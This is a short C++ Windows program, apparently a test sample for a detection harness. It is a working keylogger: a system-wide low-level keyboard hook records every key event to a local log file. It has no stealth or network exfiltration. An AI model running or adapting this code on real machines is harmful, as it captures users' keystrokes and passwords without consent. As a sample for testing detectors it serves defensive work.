// A key logger of the common kind, to see what the noise looks like from outside: a low-level
// keyboard hook that appends "down|up VK SCAN injected|physical" for every key event.
// Usage: keylogger.exe LOG  (runs until killed)

#include <windows.h>

#include <cstdio>

namespace {

FILE* logFile = nullptr;

LRESULT CALLBACK onKey(int code, WPARAM wParam, LPARAM lParam) {
    if (code == HC_ACTION) {
        const auto* key = reinterpret_cast<const KBDLLHOOKSTRUCT*>(lParam);
        std::fprintf(logFile, "%s %lu %lu %s\n", (key->flags & LLKHF_UP) ? "up" : "down", key->vkCode,
                     key->scanCode, (key->flags & LLKHF_INJECTED) ? "injected" : "physical");
        std::fflush(logFile); // the harness reads the file while we run, and then kills us
    }
    return CallNextHookEx(nullptr, code, wParam, lParam);
}

} // namespace

int wmain(int argc, wchar_t* argv[]) {
    if (argc < 2 || !(logFile = _wfopen(argv[1], L"ab"))) {
        std::fputs("usage: keylogger LOG\n", stderr);
        return 2;
    }
    HHOOK hook = SetWindowsHookExW(WH_KEYBOARD_LL, onKey, GetModuleHandleW(nullptr), 0);
    if (!hook) {
        std::fprintf(stderr, "SetWindowsHookEx failed: %lu\n", GetLastError());
        return 1;
    }
    std::puts("ready");
    std::fflush(stdout); // a pipe is fully buffered

    // The hook is called from this thread's message loop, so it must keep pumping.
    MSG message;
    while (GetMessageW(&message, nullptr, 0, 0) > 0) DispatchMessageW(&message);
    UnhookWindowsHookEx(hook);
    std::fclose(logFile);
    return 0;
}
